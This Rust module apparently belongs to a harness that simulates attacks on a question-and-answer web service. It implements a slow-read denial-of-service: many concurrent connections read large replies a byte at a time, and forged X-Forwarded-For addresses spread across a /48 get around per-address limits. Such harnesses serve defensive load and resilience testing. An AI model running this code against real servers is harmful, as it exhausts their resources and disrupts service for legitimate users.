//! Clients that ask for pages of whole questions and hardly read them.

use std::net::IpAddr;
use std::time::Duration;

use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpSocket;
use tokio::task::JoinSet;

use super::attacker::{Target, home, in_prefix};
use crate::error::Result;

const READ_INTERVAL: Duration = Duration::from_millis(250);

/// Opens 30 slow connections from one address.
pub async fn attack(target: Target) -> Result<()> {
    read_slowly(target, 30, |_| home()).await
}

/// Opens 120 slow connections from the networks of a /48.
pub async fn attack_from_prefix(target: Target) -> Result<()> {
    read_slowly(target, 120, in_prefix).await
}

async fn read_slowly(
    target: Target,
    connections: u16,
    address_of: impl Fn(u16) -> IpAddr,
) -> Result<()> {
    let account = target.log_in("slow").await?;
    let mut attack = JoinSet::new();
    for number in 0..connections {
        let request = format!(
            "GET /question/getQuestion?limit=100 HTTP/1.1\r\nHost: localhost\r\nX-Forwarded-For: {}\r\nCookie: stoa_session={}\r\n\r\n",
            address_of(number),
            account.token()
        );
        let target = target.clone();
        attack.spawn(async move {
            loop {
                let end = match read_one(&target, &request).await {
                    Ok(status) => format!("ended after {status}"),
                    Err(error) => format!("ended with {}", error.kind()),
                };
                target.count(end);
                tokio::time::sleep(READ_INTERVAL).await;
            }
        });
    }
    attack.join_all().await;
    Ok(())
}

/// Reads one reply byte by byte until the server closes the connection. Returns its status line.
async fn read_one(target: &Target, request: &str) -> std::io::Result<String> {
    let socket = TcpSocket::new_v4()?;
    socket.set_recv_buffer_size(2_048)?;
    let mut stream = socket.connect(target.address).await?;
    stream.write_all(request.as_bytes()).await?;
    let mut status = [0; 12];
    stream.read_exact(&mut status).await?;
    let status = String::from_utf8_lossy(&status).into_owned();
    target.count(format!("began with {status}"));
    while stream.read(&mut [0]).await? > 0 {
        tokio::time::sleep(READ_INTERVAL).await;
    }
    Ok(status)
}
